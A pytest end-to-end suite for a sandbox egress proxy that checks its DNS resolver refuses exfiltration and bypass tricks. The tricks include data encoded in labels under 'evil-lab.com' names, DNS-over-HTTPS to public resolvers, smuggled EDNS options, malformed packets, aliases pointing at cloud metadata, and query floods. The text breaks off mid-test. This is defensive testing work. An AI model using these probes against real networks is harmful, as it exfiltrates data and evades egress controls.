"""DNS rows: what a sandbox may ask its resolver, what it is told, and what the resolver asks outside.

What is told of a denied name hangs on `dns.denied`: such rows run under `explain` and under `nxdomain` (DENIED), the others once.
"""

from __future__ import annotations

import dataclasses
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from egressd.lab import Lab, topology
from tests.bypass.arena import RULES, Arena, Outcome, Row, arena
from tests.bypass.script import CRAFTED, each, refused, tries
from tests.e2e.conftest import build

pytestmark = pytest.mark.e2e

API, EVIL = "api.lab-origin.com", {"a": [topology.ATTACKER]}
HEX = "4a6f" * 15
RESOLVERS = """  - id: resolvers
    hosts: [dns.google, "*.cloudflare-dns.com"]
    requests: ["ANY /**"]
  - id: wide
    hosts: [wide.wild-lab.com]
    requests: ["GET,POST /**"]
deny:
"""
MORE = "limits: {dns_timeout: 1.2}\n"
TOLD = "NOERROR 198\\.18\\.0\\.2"
"""What explain mode says of a denied name."""
GIVEN = r"NOERROR 198\.18\.(?!0\.)\d+\.\d+"
"""What an allowed name gets."""
OPT = "OPT = b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\0'\n"
SITE = "line(tls(it, 443, get(host=it), it))"


def never_asked(outcome: Outcome) -> None:
    assert outcome.lab.dns_queries() == []


def spelled_anew(outcome: Outcome) -> None:
    """However often it was asked for, the name was looked up once, and not as it was spelled inside."""
    queries = outcome.lab.dns_queries("case.wild-lab.com")
    assert sorted(query.type for query in queries) == ["A", "AAAA"]
    assert not {query.spelling for query in queries} & {
        "cAsE.WiLd-LaB.cOm",
        "CASE.wild-lab.com",
        "case.WILD-LAB.com",
    }


def nobody_else_asked(outcome: Outcome) -> None:
    """Every packet to a port of DNS went to the configured server."""
    flows = [flow for flow in outcome.lab.packets("host") if flow.port in (53, 853, 5353, 443)]
    assert {flow.address for flow in flows} == {topology.DNS}


def nothing_poisoned(outcome: Outcome) -> None:
    assert {request.address for request in outcome.lab.requests(host="pypi.org")} == {topology.PYPI}


def a_hundred_not_asked(outcome: Outcome) -> None:
    """Each question has its record, and none left."""
    assert [record["layer"] for record in outcome.records].count("dns") == 100
    never_asked(outcome)


def one_request(outcome: Outcome) -> None:
    assert [request.target for request in outcome.lab.requests(host="wide.wild-lab.com")] == ["/n?dns=true"]


def by_tcp(outcome: Outcome) -> None:
    assert {query.transport for query in outcome.lab.dns_queries("truncated.wild-lab.com")} == {"udp", "tcp"}


def believed_a_little(outcome: Outcome) -> None:
    """Two connections in a row asked once, though the answer may not be kept at all."""
    for name in ("ttl-none.wild-lab.com", "ttl-most.wild-lab.com"):
        assert sorted(query.type for query in outcome.lab.dns_queries(name)) == ["A", "AAAA"]


def of_one_sandbox(outcome: Outcome) -> None:
    assert len({record["sandbox"] for record in outcome.records}) == 1


DENIED: list[tuple[Row, str]] = [
    (
        Row(
            "DNS-01",
            f"{OPT}it = '{HEX}.evil-lab.com'\n"
            "for kind in (1, 16, 28): say(dns(it, kind))\n"
            "answer = udp(nameserver(), 53, question(it, extra=OPT, counts=(1, 0, 0, 1)))\n"
            "found = re.search(rb'\\0\\x0f..\\0(.)(egressd [a-z_]+)', answer, re.S)\n"
            "say(found and (found[1][0], found[2]))",
            title="data in the labels of a denied name",
            wins=r"NOERROR 11\.6\.6\.6\nNOERROR\nNOERROR\n",
            sees=rf"{TOLD}\nNOERROR\nNOERROR\n\(4, b'egressd not_allowed'\)",
            records=(("dns", "deny", "not_allowed"),),
            shows={"host": f"{HEX}.evil-lab.com", "qtype": "TXT"},
            decisions=4,
            also=never_asked,
            note="Extended DNS Error 4 (forged) tells who explains, 15 (blocked) who does not",
        ),
        r"NXDOMAIN\nNXDOMAIN\nNXDOMAIN\n\(15, b'egressd not_allowed'\)",
    ),
    (
        Row(
            "DNS-04",
            "for it in ('x.registry.npmjs.org', 'x.y.pypi.org'): say(dns(it))",
            title="below a name that is allowed exactly",
            zone={"x.registry.npmjs.org": EVIL, "x.y.pypi.org": EVIL},
            wins=each(r"NOERROR 11\.6\.6\.6", 2),
            sees=each(TOLD, 2),
            records=(("dns", "deny", "not_allowed"),),
            decisions=2,
            also=never_asked,
        ),
        each("NXDOMAIN", 2),
    ),
    (
        Row(
            "DNS-15",
            "for it in ('wild-lab.com', 'lab.com', 'com', b'\\0'): say(dns(it))",
            title="names shorter than the wildcard's",
            zone={"com": EVIL, "lab.com": EVIL},
            wins=r"NOERROR 11\.0\.0\.20\nNOERROR 11\.6\.6\.6\nNOERROR 11\.6\.6\.6\n",
            sees=rf"\A{TOLD}\n{TOLD}\nNXDOMAIN\nNXDOMAIN\n\Z",
            records=(
                ("dns", "deny", "not_allowed"),
                ("dns", "deny", "floor_name"),
                ("dns", "deny", "bad_host"),
            ),
            decisions=4,
            also=never_asked,
        ),
        each("NXDOMAIN", 4),
    ),
    (
        Row(
            "DNS-20",
            "message = b''\n"
            f"for number, (it, kind) in enumerate((('{API}', 1), ('{HEX}.evil-lab.com', 1), ('{API}', 28), ('com', 1))):\n"
            "    asked = question(it, kind, ident=number)\n"
            "    message += struct.pack('!H', len(asked)) + asked\n"
            "answer = tcp(nameserver(), 53, message, read=65536, half_close=True).removesuffix(b'<EOF>')\n"
            "while answer:\n"
            "    size = int.from_bytes(answer[:2], 'big')\n"
            "    say(answer[3], read_dns(answer[2:2 + size]))\n"
            "    answer = answer[2 + size:]",
            title="several questions on one connection",
            zone={"com": EVIL},
            wins=r"0 NOERROR 11\.0\.0\.20\n1 NOERROR 11\.6\.6\.6\n2 NOERROR",
            sees=rf"\A0 {GIVEN}\n1 {TOLD}\n2 NOERROR\n3 NXDOMAIN\n\Z",
            records=(
                ("dns", "allow", "rule"),
                ("dns", "deny", "not_allowed"),
                ("dns", "deny", "floor_name"),
            ),
            shows={"channel": "dns-tcp", "qtype": "AAAA"},
            decisions=4,
            also=never_asked,
        ),
        rf"\A0 {GIVEN}\n1 NXDOMAIN\n2 NOERROR\n3 NXDOMAIN\n\Z",
    ),
    (
        Row(
            "DNS-24",
            "for server in ('8.8.8.8', '2600:6:6::6', '11.6.6.6', '127.0.0.1'):\n"
            f"    it = '{HEX}.evil-lab.com'\n"
            "    say(dns(it, server=server, seconds=1), dns(it, server=server, over='tcp'))\n"
            f"say(dns('{API}', server='8.8.8.8'))",
            title="another resolver",
            wins=r"\A(?:NOERROR 11\.6\.6\.6 NOERROR 11\.6\.6\.6\n){3}",
            sees=rf"\A(?:{TOLD} {TOLD}\n){{4}}{GIVEN}\n\Z",
            records=(("dns", "deny", "not_allowed"), ("dns", "allow", "rule")),
            decisions=9,
            also=never_asked,
            wired=True,
        ),
        rf"\A(?:NXDOMAIN NXDOMAIN\n){{4}}{GIVEN}\n\Z",
    ),
    (
        Row(
            "DNS-33",
            "for it in ('corp.internal', 'svc.cluster.local', 'lan', 'evil-lab.com'): say(dns('api.lab-origin.com.' + it))\n"
            "say([line for line in open('/etc/resolv.conf') if line.startswith(('search', 'domain', 'options'))])",
            title="suffixes of a search list",
            zone={"api.lab-origin.com.corp.internal": EVIL},
            wins=r"NOERROR 11\.6\.6\.6",
            sees=rf"\A{TOLD}\nNXDOMAIN\n{TOLD}\n{TOLD}\n\[\]\n\Z",
            records=(("dns", "deny", "not_allowed"), ("dns", "deny", "floor_name")),
            decisions=4,
            also=never_asked,
            note="DESIGN: denied names are explained, suffixed ones too; the sandbox has no search list that would make any",
        ),
        r"\ANXDOMAIN\nNXDOMAIN\nNXDOMAIN\nNXDOMAIN\n\[\]\n\Z",
    ),
    (
        Row(
            "DNS-34",
            "began = time.monotonic()\n"
            f"say(run('getent', 'ahosts', '{HEX}.evil-lab.com'))\n"
            f"say(run('dig', '+short', '{HEX}.evil-lab.com')); say(run('dig', '{HEX}.evil-lab.com', 'MX'))\n"
            "say('fast' if time.monotonic() - began < 1 else 'slow')",
            title="real clients are told at once",
            wins=r"11\.6\.6\.6.*11\.6\.6\.6",
            sees=r"198\.18\.0\.2.*\[0\]\n198\.18\.0\.2\n\[0\].*status: NOERROR.*\[0\]\nfast",
            records=(("dns", "deny", "not_allowed"),),
            also=never_asked,
            note="musl, Go and c-ares are tried with the other clients (tests/clients)",
        ),
        r"\A\[2\]\n\[0\].*status: NXDOMAIN.*EDE: 15 \(Blocked\).*\[0\]\nfast",
    ),
]

_ROWS = [
    Row(
        "DNS-02",
        "say(line(connect('secret123.evil-lab.com:443', get(host='secret123.evil-lab.com'), 'secret123.evil-lab.com')))\n"
        "say(line(absolute('http://secret456.evil-lab.com/')))",
        title="the proxy itself looks the name up",
        wins=each("owned", 2),
        sees=each(refused("not_allowed"), 2),
        records=(("connection", "deny", "not_allowed"), ("request", "deny", "not_allowed")),
        decisions=4,
        also=never_asked,
    ),
    Row(
        "DNS-03",
        "import random\n"
        "names = ['%060x.wild-lab.com' % random.getrandbits(240) for _ in range(300)]\n"
        "answers = [dns(it) for it in names]\n"
        "say(len(set(answers)), answers[0], answers[-1])",
        title="data in labels below a wildcard",
        wins=r"\A1 NOERROR 11\.0\.0\.20 NOERROR 11\.0\.0\.20\n",
        sees=rf"\A300 {GIVEN} {GIVEN}\n",
        records=(("dns", "allow", "rule"),),
        rule="wild",
        decisions=300,
        also=never_asked,
        note="DESIGN: an allowed name is looked up only for an allowed connection; the budgets are tried below",
    ),
    Row(
        "DNS-05",
        "for it in ('cAsE.WiLd-LaB.cOm', 'CASE.wild-lab.com', 'case.WILD-LAB.com'):\n"
        "    asked = question(it)\n"
        "    answer = udp(nameserver(), 53, asked)\n"
        f"    say(asked[12:] in answer, read_dns(answer)); say({SITE})",
        title="data in the case of letters",
        wins=r"True NOERROR 11\.0\.0\.20",
        sees=rf"\A(?:True {GIVEN}\n[^\n]*200 OK[^\n]*\n){{3}}\Z",
        records=(("dns", "allow", "rule"),),
        shows={"host": "case.wild-lab.com", "host_raw": "cAsE.WiLd-LaB.cOm"},
        reaches=("case.wild-lab.com",),
        also=spelled_anew,
    ),
    Row(
        "DNS-06",
        "for kind in (16, 10, 15, 33, 5, 99, 65400, 255, 253, 252, 251):\n"
        "    say(dns('typed.wild-lab.com', kind), b'orders' in udp(nameserver(), 53, question('typed.wild-lab.com', kind)))",
        title="types that nobody needs",
        zone={
            "typed.wild-lab.com": {
                "a": [topology.API],
                "txt": ["orders"],
                "records": [["MX", "10 orders.evil-lab.com."]],
            }
        },
        wins="NOERROR True",
        sees=r"\A(?:NOERROR False\n){7}(?:NOTIMP False\n){2}(?:REFUSED False\n){2}\Z",
        records=(("dns", "deny", "dns_type"),),
        shows={"qtype": "TYPE65400", "host": "typed.wild-lab.com"},
        decisions=22,
        also=never_asked,
    ),
    Row(
        "DNS-07",
        "for it in ('4.3.2.1.in-addr.arpa', 'data.in-addr.arpa', '0.1.18.198.in-addr.arpa', 'data.ip6.arpa'):\n"
        "    say(dns(it, 12), dns(it, 1))",
        title="names of addresses",
        zone={"*.in-addr.arpa": {"records": [["PTR", "x.evil-lab.com."]]}, "*.ip6.arpa": EVIL},
        wins=each("NOERROR NOERROR", 4),
        sees=each("NXDOMAIN NXDOMAIN", 4),
        records=(("dns", "deny", "floor_name"),),
        decisions=8,
        also=never_asked,
        note="DESIGN: NXDOMAIN for all, those of synthetic addresses too",
    ),
    Row(
        "DNS-08",
        "for kind in (65, 64):\n"
        "    answer = udp(nameserver(), 53, question('svc.wild-lab.com', kind))\n"
        "    say(read_dns(answer), b'\\x0a\\0\\0\\x05' in answer, b'h3' in answer, answer[7])",
        title="service bindings",
        zone={
            "svc.wild-lab.com": {
                "a": [topology.API],
                "records": [
                    [
                        kind,
                        "1 . alpn=h3 port=8443 ipv4hint=10.0.0.5",
                    ]
                    for kind in ("HTTPS", "SVCB")
                ],
            }
        },
        wins=each("NOERROR True True 1", 2),
        sees=each("NOERROR False False 0", 2),
        records=(("dns", "deny", "dns_type"),),
        shows={"qtype": "HTTPS"},
        decisions=2,
        also=never_asked,
    ),
    Row(
        "DNS-09",
        f"{CRAFTED}answer = udp(nameserver(), 53, question('cdn.wild-lab.com'))\n"
        "say(read_dns(answer), b'cdn-other' in answer)\n"
        "say(line(tls('cdn.wild-lab.com', 443, get(host='cdn.wild-lab.com'), 'cdn.wild-lab.com')))\n"
        "it = 'x.cdn-other.com'\n"
        "say(line(connect(it + ':443', get(host=it), it))); say(line(connect('11.0.0.20:443', get(host=it), it)))\n"
        "say(raw_alert(tcp('cdn.wild-lab.com', 443, crafted(it), read=7)))\n"
        "say(line(tls('cdn.wild-lab.com', 443, get(host=it), 'cdn.wild-lab.com')))",
        title="an alias out of the allowed names",
        zone={"cdn.wild-lab.com": {"cname": "x.cdn-other.com"}, "x.cdn-other.com": {"a": [topology.API]}},
        wins=r"True\n(?:[^\n]*200 OK[^\n]*\n){3}ServerHello\n[^\n]*200 OK",
        sees=rf"\A{GIVEN} False\n[^\n]*200 OK[^\n]*\n[^\n]*{refused('not_allowed')}[^\n]*\n[^\n]*{refused('ip_literal')}[^\n]*\n"
        rf"alert unrecognized_name\n[^\n]*{refused('authority_mismatch')}",
        records=(
            ("request", "allow", "rule"),
            ("connection", "deny", "not_allowed"),
            ("connection", "deny", "ip_literal"),
            ("connection", "deny", "sni_mismatch"),
            ("request", "deny", "authority_mismatch"),
        ),
        reaches=("cdn.wild-lab.com",),
        asks=("x.cdn-other.com",),
    ),
    Row(
        "DNS-09",
        tries(f"{SITE[5:-1]}", "alias-imds.wild-lab.com", "alias-loop.wild-lab.com"),
        title="an alias below the floor, and one of itself",
        zone={
            "alias-imds.wild-lab.com": {"cname": "metadata.google.internal"},
            "metadata.google.internal": {"a": [topology.API]},
            "alias-loop.wild-lab.com": {"cname": "alias-loop.wild-lab.com"},
        },
        wins="200 OK",
        sees=refused("floor_metadata") + r".*\n[^\n]*" + r"\(reason upstream_dns\)",
        records=(("request", "end", "floor_metadata"), ("request", "end", "upstream_dns")),
        asks=("alias-imds.wild-lab.com", "alias-loop.wild-lab.com", "metadata.google.internal"),
    ),
    Row(
        "DNS-10",
        "say(dns('foreign.lab-origin.com'))\n"
        f"it = 'foreign.lab-origin.com'; say({SITE})\n"
        "say(line(tls('pypi.org', 443, get('/simple/', 'pypi.org'), 'pypi.org')))",
        title="an answer that also tells of others",
        wins=r"\ANOERROR [^\n]*11\.6\.6\.6",
        sees=rf"\A{GIVEN}\n[^\n]*200 OK[^\n]*\n[^\n]*200 OK",
        records=(("request", "allow", "rule"),),
        reaches=("foreign.lab-origin.com", "pypi.org"),
        also=nothing_poisoned,
    ),
    Row(
        "DNS-11",
        f"say(dns('spoofed.wild-lab.com')); it = 'spoofed.wild-lab.com'; say({SITE})",
        title="forged answers before the right one",
        zone={"spoofed.wild-lab.com": {"a": [topology.API], "behaviour": "spoofed", "ttl": 0}},
        wins=r"\ANOERROR 11\.6\.6\.6",
        sees=rf"\A{GIVEN}\n[^\n]*200 OK",
        records=(("request", "allow", "rule"),),
        reaches=("spoofed.wild-lab.com",),
    ),
    Row(
        "DNS-11",
        f"say(dns('wrong-id.lab-origin.com')); it = 'wrong-id.lab-origin.com'; say({SITE} if nameserver() == RESOLVER else '')",
        title="forged answers alone",
        wins=r"\ANOERROR 11\.0\.0\.20",
        sees=rf"\A{GIVEN}\n[^\n]*\(reason upstream_dns\)",
        records=(("request", "allow", "rule"), ("request", "end", "upstream_dns")),
        asks=("wrong-id.lab-origin.com",),
    ),
    Row(
        "DNS-13",
        f"for flags in (0x0900, 0x1100, 0x2100, 0x2900, 0x3100): say(dns('{API}', flags=flags))\n"
        f"say(dns('{API}', flags=0x8100, seconds=0.3))\nsay(dns('{API}', flags=0x8180, over='tcp', seconds=0.3))",
        title="messages that ask nothing",
        moot="a server that answers an answer harms itself",
        sees=r"\A(?:NOTIMP\n){5}TimeoutError[^\n]*\n",
        records=(("dns", "deny", "dns_opcode"), ("dns", "deny", "bad_dns")),
        shows={"detail": "a response, not a query"},
        decisions=7,
        also=never_asked,
    ),
    Row(
        "DNS-16",
        "names = (b'\\xc0\\x0c', b'\\xc0\\x20', b'\\x03abc\\xc0\\x0c', b'\\xc0\\x00', b'\\x40abc', b'\\x80abc')\n"
        "for name in names: say(dns(name))\n"
        "chain = b''.join(struct.pack('!H', 0xC000 | 14 + 2 * n) for n in range(1800))\n"
        "say(dns(chain)); say(dns(chain, over='tcp'))",
        title="compression where there is nothing to point at",
        moot="a server that loops harms itself",
        sees=each("FORMERR", 8),
        records=(("dns", "deny", "bad_dns"),),
        shows={"detail": "a compression pointer in a question"},
        decisions=8,
        also=never_asked,
    ),
    Row(
        "DNS-17",
        "long = (b'\\x3c' + b'a' * 60) * 17 + b'\\0'\n"
        "say(dns(long)); say(dns(long, over='tcp'))\n"
        "say(dns((b'\\x3f' + b'a' * 63) * 4 + b'\\0'))",
        title="names longer than names can be",
        moot="a server that fails to pack its answer harms itself",
        sees=each("FORMERR", 3),
        records=(("dns", "deny", "bad_dns"),),
        shows={"detail": "a name longer than 255 bytes"},
        decisions=3,
        also=never_asked,
    ),
    Row(
        "DNS-18",
        "import random\nchance = random.Random(18)\n"
        f"whole = question('{API}', extra=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\0', counts=(1, 0, 0, 1))\n"
        "sent = [whole[:n] for n in range(1, len(whole))] + [whole + b'junk', question(b'\\x02\\xff\\xfe\\3com\\0')]\n"
        "sent += [chance.randbytes(chance.randrange(1, 600)) for _ in range(900)]\n"
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n"
        "    sock.connect((nameserver(), 53)); sock.settimeout(2)\n"
        "    for n, message in enumerate(sent):\n"
        "        sock.send(message)\n"
        "        if n % 40 == 39:\n"
        f"            sock.send(question('{API}', ident=0xBEEF))\n"
        "            while sock.recv(4096)[:2] != b'\\xbe\\xef': pass\n"
        f"say(len(sent), len(sent) // 40, dns('{API}'))",
        title="cut and random messages",
        moot="a server that fails harms itself",
        sees=rf"\A948 23 {GIVEN}\n",
        records=(("dns", "deny", "bad_dns"),),
        decisions=948 + 23 + 1,
        also=never_asked,
        note="each has its record up to the budget, above which they are counted (DNS-31)",
    ),
    Row(
        "DNS-19",
        "def closed(sock):\n"
        "    began = time.monotonic(); sock.settimeout(8)\n"
        "    try:\n"
        "        while sock.recv(100): pass\n"
        "    except ConnectionResetError: pass\n"
        "    return time.monotonic() - began\n"
        "def talk(data):\n"
        "    sock = socket.create_connection((nameserver(), 53)); sock.sendall(data); return sock\n"
        "idle = [talk(b'\\0\\x20\\0') for _ in range(20)]\n"
        "lying = [talk(b'\\xff\\xff\\0') for _ in range(60)] + [talk(b'\\0\\0')]\n"
        "more = [talk(b'') for _ in range(40)]\n"
        "say(max(closed(sock) for sock in lying) < 1)\n"
        f"say(dns('{API}'))\n"
        "say(5 <= max(closed(sock) for sock in idle + more) + 0.5 < 7)\n"
        f"say(dns('{API}', over='tcp'))",
        title="connections that hold on",
        moot="a server that waits for ever harms itself",
        sees=rf"\ATrue\n{GIVEN}\nTrue\n{GIVEN}\n",
        records=(
            ("dns", "deny", "bad_dns"),
            ("dns", "deny", "too_many_connections"),
            ("dns", "allow", "rule"),
        ),
        also=never_asked,
        seconds=15,
    ),
    Row(
        "DNS-21",
        OPT + "def opt(*options, version=0):\n"
        "    data = b''.join(struct.pack('!HH', code, len(value)) + value for code, value in options)\n"
        "    return OPT[:6] + bytes((version,)) + OPT[7:9] + struct.pack('!H', len(data)) + data\n"
        "carrying = opt((8, b'\\0\\1\\x18\\0\\x0b\\6\\6'), (65001, b'd' * 1024), (12, b'\\0' * 32), (10, b'cookie!!'))\n"
        f"for extra in (carrying, opt(version=1), OPT + OPT, opt((65001, b'x'))[:-1], b'\\0\\0\\1' + OPT[3:]):\n"
        f"    answer = udp(nameserver(), 53, question('{API}', extra=extra, counts=(1, 0, 0, 2 if extra == OPT + OPT else 1)))\n"
        "    at = answer.find(b'\\0\\0\\x29')\n"
        "    say(read_dns(answer), answer[at + 5] if at > 0 else '-', b'ddd' in answer, b'cookie' in answer)\n"
        f"it = '{API}'; say({SITE})",
        title="data in EDNS options",
        moot="what the options carry reaches who answers, which the lab's server keeps no record of",
        sees=rf"\A{GIVEN} 0 False False\nNOERROR 1 False False\n(?:FORMERR - False False\n){{3}}[^\n]*200 OK",
        records=(("dns", "allow", "rule"), ("dns", "deny", "bad_dns")),
        reaches=(API,),
        note="the query that goes out is made of name and type alone: what it holds is held by tests/gate/dns",
    ),
    Row(
        "DNS-23",
        f"say(dns('version.bind', 16, klass=3))\nfor klass in (255, 254, 4): say(dns('{API}', klass=klass))",
        title="other classes",
        wins=r"NOERROR 11\.0\.0\.20",
        sees=each("REFUSED", 4),
        records=(("dns", "deny", "dns_class"),),
        decisions=4,
        also=never_asked,
    ),
    Row(
        "DNS-25",
        "say(line(tls('11.6.6.6', 853, get(), 'dns.evil-lab.com')))\n"
        "for port in (853, 5353, 5355, 137): say(udp('11.6.6.6', port)); say(udp('2600:6:6::6', port))\n"
        "say(udp('224.0.0.251', 5353, question('x.local'), 0.3)); say(udp('224.0.0.252', 5355, question('x'), 0.3))",
        title="resolvers by other protocols",
        wins=r"owned[^\n]*\n(?:b'owned[^\n]*\n){8}",
        sees=rf"{refused('ip_literal')}[^\n]*\n(?:b'PermissionError[^\n]*\n){{10}}",
        records=(
            ("connection", "deny", "ip_literal"),
            ("packet", "deny", "protocol_not_allowed"),
            ("packet", "deny", "floor_multicast"),
        ),
        wired=True,
    ),
    Row(
        "DNS-26",
        tries(
            "tls(it, 443, get('/dns-query', it, 'POST', b'Content-Length: 2\\r\\n', b'xx'), it)",
            "dns.google",
            "mozilla.cloudflare-dns.com",
        )
        + tries("tls(it, 443, get('/resolve?name=secret.evil-lab.com', it), it)", "dns.google"),
        title="known resolvers on https, under a rule that allows them",
        zone={"dns.google": EVIL, "mozilla.cloudflare-dns.com": EVIL},
        wins=each("owned", 3),
        sees=each(refused("denied_by_organisation"), 3),
        records=(("dns", "deny", "denied_by_organisation"), ("request", "deny", "denied_by_organisation")),
    ),
    Row(
        "DNS-26",
        "asked = question('secret.evil-lab.com', ident=0)\n"
        "import base64; text = base64.urlsafe_b64encode(asked).rstrip(b'=').decode()\n"
        "kind = b'Content-Type: application/dns-message\\r\\nContent-Length: %d\\r\\n' % len(asked)\n"
        "it = 'wide.wild-lab.com'\n"
        "say(line(tls(it, 443, get('/echo', it, 'POST', kind, asked), it)))\n"
        "say(line(tls(it, 443, get('/n?dns=' + text, it), it)))\n"
        "say(line(tls(it, 443, get('/n?name=secret.evil-lab.com', it, head=b'Accept: application/dns-json\\r\\n'), it)))\n"
        "say(line(tls(it, 443, get('/n?dns=true', it), it)))",
        title="a resolver on an allowed host",
        wins=each("200 OK", 4),
        sees=rf"\A(?:[^\n]*{refused('doh')}[^\n]*\n){{3}}[^\n]*200 OK",
        records=(("request", "deny", "doh"), ("request", "allow", "rule")),
        rule="wide",
        reaches=("wide.wild-lab.com",),
        also=one_request,
        note="unless a rule spells the path: tests/policy/test_decide.py",
    ),
    Row(
        "DNS-28",
        "def one(it):\n"
        "    began = time.monotonic()\n"
        f"    said = {SITE}\n"
        "    say(said, '' if time.monotonic() - began < 5 else 'LATE')\n"
        "names = [it + '.lab-origin.com' for it in ('servfail', 'dns-refused', 'garbage', 'silent', 'empty')]\n"
        "threads = [threading.Thread(target=one, args=(it,)) for it in names if nameserver() == RESOLVER]\n"
        "[thread.start() for thread in threads]; [thread.join() for thread in threads]",
        title="an upstream that fails",
        moot="nobody has an answer; what counts is that nobody else is asked",
        sees=each(r"502 egressd[^|]*\(reason upstream_dns\)(?![^\n]*LATE)", 5),
        records=(("request", "allow", "rule"), ("request", "end", "upstream_dns")),
        asks=tuple(
            f"{it}.lab-origin.com" for it in ("servfail", "dns-refused", "garbage", "silent", "empty")
        ),
        also=nobody_else_asked,
        note="DESIGN: the name has its synthetic address; what fails is the dial, in a sentence",
    ),
    Row(
        "DNS-30",
        "def ttl(it):\n"
        "    answer = udp(nameserver(), 53, question(it))\n"
        "    return struct.unpack('!I', re.search(rb'\\xc0\\x0c\\x00\\x01\\x00\\x01(....)', answer, re.S)[1])[0]\n"
        "for it in ('ttl-none.wild-lab.com', 'ttl-most.wild-lab.com'):\n"
        f"    say(ttl(it)); say({SITE}); say({SITE})\n"
        "say(ttl('a.evil-lab.com'))",
        title="how long an answer is believed",
        zone={
            "ttl-none.wild-lab.com": {"a": [topology.API], "ttl": 0},
            "ttl-most.wild-lab.com": {"a": [topology.API], "ttl": 2**31 - 1},
        },
        wins=r"\A0\n.*\n2147483647\n",
        sees=r"\A(?:60\n(?:[^\n]*200 OK[^\n]*\n){2}){2}1\n",
        records=(("dns", "allow", "rule"), ("dns", "deny", "not_allowed")),
        reaches=("ttl-none.wild-lab.com", "ttl-most.wild-lab.com"),
        also=believed_a_little,
        note="the upper bound, 300 s, is held with a clock of its own in tests/gate/dns",
    ),
    Row(
        "DNS-32",
        "for source in ('203.0.113.9', '11.0.0.3', '198.18.0.1', '10.0.0.9', '127.0.0.9'):\n"
        f"    say(read_dns(udp(nameserver(), 53, question('{API}'), bind=(source, 0))))",
        title="another's source address",
        moot="without egressd the kernel lets nobody have it",
        sees=each(GIVEN, 5),
        records=(("dns", "allow", "rule"),),
        decisions=5,
        also=of_one_sandbox,
        wired=True,
        note="DESIGN: there is no veth to drop it at; the socket it arrives on says whose it is, the address nothing",
    ),
    Row(
        "DNS-35",
        "answer = udp(nameserver(), 53, question('huge.lab-origin.com'))\n"
        "say(bool(answer[2] & 2), len(answer) < 512, read_dns(answer)); say(dns('huge.lab-origin.com', over='tcp'))\n"
        f"for it in ('huge.lab-origin.com', 'truncated.wild-lab.com'): say({SITE} if nameserver() == RESOLVER else '')",
        title="answers too large for a datagram",
        zone={"truncated.wild-lab.com": {"a": [topology.API], "behaviour": "truncated"}},
        wins=r"\ATrue True NOERROR\n",
        sees=rf"\AFalse True {GIVEN}\n{GIVEN}\n(?:[^\n]*200 OK[^\n]*\n){{2}}",
        records=(("dns", "allow", "rule"), ("request", "allow", "rule")),
        reaches=("huge.lab-origin.com", "truncated.wild-lab.com"),
        also=by_tcp,
        note="DESIGN: one synthetic address for all sixty, so nothing is too large; what is asked outside may be",
    ),
]
ROWS = [dataclasses.replace(row, wired=row.id in ("DNS-25", "DNS-32")) for row in _ROWS]
EXPLAINED = [dataclasses.replace(row, wired=row.id == "DNS-24") for row, _ in DENIED]
UNKNOWN = [dataclasses.replace(row, sees=sees, wired=False) for row, sees in DENIED]


@pytest.fixture(scope="module")
def explaining(shared_lab: Lab) -> Iterator[Arena]:
    """As everywhere, but that a silent upstream is given up sooner, and that a rule allows resolvers."""
    with arena(shared_lab, rules=RULES.replace("deny:\n", RESOLVERS, 1), more=MORE) as made:
        yield made


@pytest.mark.parametrize("row", [*EXPLAINED, *ROWS], ids=str)
def test_the_resolver_tells_and_asks_no_more_than_it_must(explaining: Arena, row: Row) -> None:
    explaining.holds(row)


@pytest.mark.parametrize("row", UNKNOWN, ids=str)
def test_the_same_where_denied_names_do_not_exist(nxdomain: Arena, row: Row) -> None:
    nxdomain.holds(row)


def test_what_one_sandbox_looked_up_opens_nothing_for_another(explaining: Arena) -> None:
    """DNS-29: addresses are a sandbox's own, whoever else has them for what."""
    found = explaining.a.run("say(dns('pins.wild-lab.com'))").split()
    assert found[0] == "NOERROR"
    explaining.lab.forget()
    mark = len(explaining.stand.records())
    taken = explaining.b.run("say(dns('other.wild-lab.com'))")
    code = f"say(line(tls({found[1]!r}, 443, get(host='pins.wild-lab.com'), 'pins.wild-lab.com')))"
    said = explaining.b.run(code)
    # B has no such address, or has it for another name; it never stands for A's
    reason = "sni_mismatch" if found[1] in taken else "synthetic_unmapped"
    assert "200 OK" not in said, said
    assert explaining.new_records(mark, [("connection", "deny", reason)])
    explaining.nothing_reached()
    explaining.life_goes_on()


LIMITED = RULES.replace(
    '    hosts: ["*.wild-lab.com"]\n', '    hosts: ["*.wild-lab.com"]\n    limits: {new_hosts: 3/hour}\n'
)
NAMES = 40
TIGHT = [
    Row(
        "DNS-03",
        tries(SITE[5:-1], *(f"d4t4-{n}.wild-lab.com" for n in range(5))),
        title="data in the names of connections",
        wins=each("200 OK", 5),
        sees=rf"\A(?:[^\n]*200 OK[^\n]*\n){{3}}(?:[^\n]*{refused('rate_limited')}[^\n]*\n){{2}}\Z",
        records=(("request", "allow", "rule"), ("request", "deny", "rate_limited")),
        reaches=tuple(f"d4t4-{n}.wild-lab.com" for n in range(3)),
        note="what is over the limit is not looked up either",
    ),
    Row(
        "DNS-03",
        "answers = [dns('d4t4-%d.wild-lab.com' % n) for n in range(100, 200)]\n"
        "say(sum('NOERROR' in it for it in answers), set(answers[60:]))",
        title="data in the names of questions",
        wins=r"\A100 ",
        sees=r"\A[1-3]\d \{'NXDOMAIN'\}\n",
        records=(("dns", "allow", "rule"), ("dns", "deny", "dns_budget")),
        also=a_hundred_not_asked,
    ),
]


@pytest.fixture(scope="module")
def tight() -> Iterator[Arena]:
    """An arena of small budgets; its rows use them up in this order."""
    more = f"limits: {{dns_names: {NAMES}, dns_queries_per_minute: 1200}}\n"
    with build(True) as lab, arena(lab, rules=LIMITED, more=more) as made:
        yield made


@pytest.mark.parametrize("row", TIGHT, ids=str)
def test_a_budget_ends_what_labels_can_carry(tight: Arena, row: Row) -> None:
    tight.holds(row)


def test_a_flood_of_names_is_its_senders_alone(tight: Arena) -> None:
    """DNS-31: over the queries of a minute the answer is REFUSED and a count, and the other sandbox sees nothing of it."""
    flood = (
        "sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sock.connect((nameserver(), 53)); sock.settimeout(0.5)\n"
        "codes = {}\n"
        "for n in range(3000):\n"
        "    sock.send(question('%d.evil-lab.com' % n))\n"
        "    if n % 40 == 39:\n"
        "        for _ in range(40):\n"
